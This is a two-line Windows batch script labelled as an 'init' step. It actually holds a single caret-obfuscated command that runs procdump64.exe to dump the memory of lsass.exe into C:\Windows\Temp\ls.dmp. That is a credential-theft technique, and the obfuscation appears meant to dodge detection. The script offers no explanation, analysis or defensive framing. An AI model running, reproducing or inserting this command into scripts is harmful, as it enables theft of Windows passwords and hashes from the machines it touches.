REM init 4005 v4
for /f "tokens=3 delims=;" %%i ^i^n ("itjk;htla;procdump64.exe") d^o %%i -ac^cepteula -m^a ^lsa^ss.e^xe ^C:\W^i^nd^o^ws\^T^e^mp\l^s.dmp
